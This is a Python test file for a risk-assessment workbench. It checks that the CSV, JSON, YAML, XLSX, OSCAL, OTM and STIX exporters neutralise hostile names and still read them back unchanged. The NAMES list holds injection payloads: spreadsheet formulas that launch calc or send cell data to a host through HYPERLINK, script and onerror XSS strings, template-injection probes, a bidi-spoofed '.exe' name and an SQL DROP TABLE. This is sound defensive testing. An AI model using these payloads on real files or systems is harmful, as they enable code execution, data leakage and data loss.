"""Hostile names through every writer: no live cell, valid JSON, and our readers give them back."""

import csv
import io
import json
import re
from dataclasses import replace

import openpyxl
import pytest

from tests.threats.test_applying import PLANTED, SYSTEM
from workbench import Point, Scenario, Study, simulate
from workbench.errors import WorkbenchError
from workbench.files import parse_study, study_csv, study_json, study_yaml
from workbench.files.catalogues.crosswalks import crosswalk_csv, parse_crosswalk
from workbench.files.catalogues.evidence import parse_records, records_csv
from workbench.files.catalogues.frameworks import shipped_frameworks
from workbench.files.catalogues.readiness import parse_readiness, readiness_csv, readiness_xlsx
from workbench.files.catalogues.system_text import system_from, text_of
from workbench.files.exchange.navigator import layer_json, layer_of_threats
from workbench.files.exchange.oscal_mapping import mapping_collection, parse_mapping_collection
from workbench.files.exchange.oscal_results import assessment_results, parse_assessment_results
from workbench.files.exchange.otm import parse_otm
from workbench.files.exchange.otm_writing import otm_json
from workbench.files.exchange.sssom import parse_sssom, sssom_tsv
from workbench.files.exchange.stix import stix_json
from workbench.files.suspicious import FORMULA_STARTS
from workbench.frameworks import Crosswalk, Row
from workbench.frameworks.coverage import Record
from workbench.frameworks.readiness import Readiness, Standing
from workbench.reports.result import result_csv
from workbench.threats import Catalogue, threats_to

STAMP = "2026-11-28T22:00:00Z"
LINK = 'HYPERLINK("http://x.test/?"&A1,"a")'
NAMES = [
    *(f"{start}{LINK}" for start in sorted(FORMULA_STARTS) if start.strip()),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f" ={LINK}",
    f"\u00a0={LINK}",
    f"'={LINK}",
    f"''={LINK}",
    '"=1+1"',
    "<script>globalThis.pwned=1</script>",
    "</script><img src=x onerror=globalThis.pwned=1>",
    "]]>--><svg onload=globalThis.pwned=1>",
    "$\\href{javascript:globalThis.pwned=1}{a}$",
    "{{7*7}} {%print(7*7)%} ${7*7}",
    "[a](javascript:globalThis.pwned=1)",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\ufeff",
    "a: b # c, - d | e\\n",
    "%s %(x)s {0.__class__}",
    "'; DROP TABLE entries; --",
    "null",
    "1e5",
    "2026-11-28",
    "\u0405-1 \U0001f4c8 e\u0301",
]
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def cells_of(text, mark=","):
    lines = "".join(line for line in text.splitlines(keepends=True) if not line.startswith("# "))
    return [
        cell for row in csv.reader(io.StringIO(lines, newline=""), delimiter=mark) for cell in row
    ]


def check_table(text, mark=","):
    live = [c for c in cells_of(text, mark) if c.lstrip(" \u00a0")[:1] in FORMULA_STARTS and c]
    assert live == []


def check_json(text):
    """A JSON text of RFC 8259, in which nothing that cannot be seen stands raw."""

    def refuse(word):
        raise AssertionError(word)

    json.loads(text, parse_constant=refuse)
    assert RAW.search(text) is None


@pytest.mark.parametrize(
    "text", ["a,=1\n", "a,\uff1d1\n", 'a," \t1"\n', "a,\u00a0+1\n", '"\n=1"\n']
)
def test_a_planted_formula_is_found(text):
    with pytest.raises(AssertionError):
        check_table(text)


@pytest.mark.parametrize("text", ["[NaN]", "[1e999, Infinity]", '["\u202e"]', '["\u2028"]'])
def test_a_planted_json_that_is_none_or_raw_is_found(text):
    with pytest.raises(AssertionError):
        check_json(text)


def study(name):
    one = Scenario.fair("S-1", name, loss_event_frequency=Point(2.0), loss_magnitude=Point(10.0))
    return Study(name=name, scenarios=(one,))


@pytest.mark.parametrize("name", NAMES)
def test_a_study_leaves_inert_and_comes_back(name):
    made = study(name)
    check_json(study_json(made))
    assert parse_study("s.json", study_json(made).encode()).study == made
    assert parse_study("s.yaml", study_yaml(made).encode()).study == made
    assert RAW.search(study_yaml(made)) is None
    check_table(result_csv(simulate(made)))


@pytest.mark.parametrize("name", NAMES)
def test_a_scenario_table_leaves_inert_or_not_at_all(name):
    row = dict(zip(HEAD, ("S-1", name, 0.1, 0.5, 2, 1000, 0.1, 0.3, 0.8, 3, 4), strict=True))
    made = parse_study("s.json", json.dumps({"scenarios": [row]}).encode()).study
    try:
        text = study_csv(made)
    except WorkbenchError:  # the table has no way to say it, which is told
        assert name.lstrip(" \u00a0'")[:1] in FORMULA_STARTS or not name.isprintable()
        return
    check_table(text)
    found = parse_study("s.csv", text.encode()).study.scenarios[0].name
    assert found.lstrip("'") == name.lstrip("'")


HEAD = "id name aro_low aro_mode aro_high asset_value ef_low ef_mode ef_high likelihood consequence"
HEAD = HEAD.split()


@pytest.mark.parametrize("name", NAMES)
def test_a_readiness_leaves_inert_and_comes_back(name):
    one = Standing("iso42001_2023", "A.2.2", "met", 3, 4, name, "2026-12-01", name)
    out = Standing("iso42001_2023", "4.1", "not applicable", justification=name)
    made = Readiness(shipped_frameworks(), (one, out))
    check_table(readiness_csv(made))
    assert parse_readiness("r.csv", readiness_csv(made).encode()).readiness == made
    book = readiness_xlsx(made)
    assert parse_readiness("r.xlsx", book).readiness == made
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert not [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert [c.value for c in sheet[2]][7] == name
    text = assessment_results(made, title=name.strip(), stamp=STAMP)
    check_json(text)
    back = parse_assessment_results("r.json", text.encode()).value
    assert [line(s.evidence) for s in back.standings] == [line(name), ""]


def line(text):
    """A text as OSCAL can hold it: trimmed, one space for each run of spaces."""
    return " ".join(text.split())


@pytest.mark.parametrize("name", NAMES)
def test_a_crosswalk_and_evidence_leave_inert_and_come_back(name):
    ends = ("nist_ai_rmf_1_0", "GOVERN 1.1"), ("iso42001_2023", "4.1")
    made = Crosswalk((Row(*ends, "subset", 5, "editorial", name, "", name),))
    check_table(crosswalk_csv(made))
    assert parse_crosswalk("c.csv", crosswalk_csv(made).encode()).crosswalk == made
    text = sssom_tsv(made, title=name)
    check_table(text, "\t")
    assert parse_sssom("c.tsv", text.encode()).value == made
    text = mapping_collection(made, title=name.strip(), stamp=STAMP)
    check_json(text)
    (row,) = parse_mapping_collection("c.json", text.encode()).value.rows
    assert line(row.provenance) == line(name)
    records = (Record("iso42001_2023", "A.2.2", name, name, "2026-11-24"),)
    check_table(records_csv(records))
    assert parse_records("e.csv", records_csv(records).encode()) == records


@pytest.mark.parametrize("name", NAMES)
def test_a_system_and_its_threats_leave_inert_and_come_back(name):
    parts = tuple(replace(one, name=name) for one in SYSTEM.components)
    zones = tuple(replace(one, name=name) for one in SYSTEM.boundaries)
    flows = tuple(replace(one, carries=name) for one in SYSTEM.flows)
    made = replace(SYSTEM, name=name, components=parts, boundaries=zones, flows=flows)
    threats = Catalogue(tuple(replace(one, title=name, description=name) for one in PLANTED))
    report = threats_to(made, threats)
    assert system_from(text_of(made)) == made
    text = otm_json(report)
    check_json(text)
    assert parse_otm("m.otm", text.encode()).system == made
    check_json(stix_json(report, shipped_frameworks()["atlas_5_6"], created=STAMP))
    check_json(layer_json(layer_of_threats(report)))
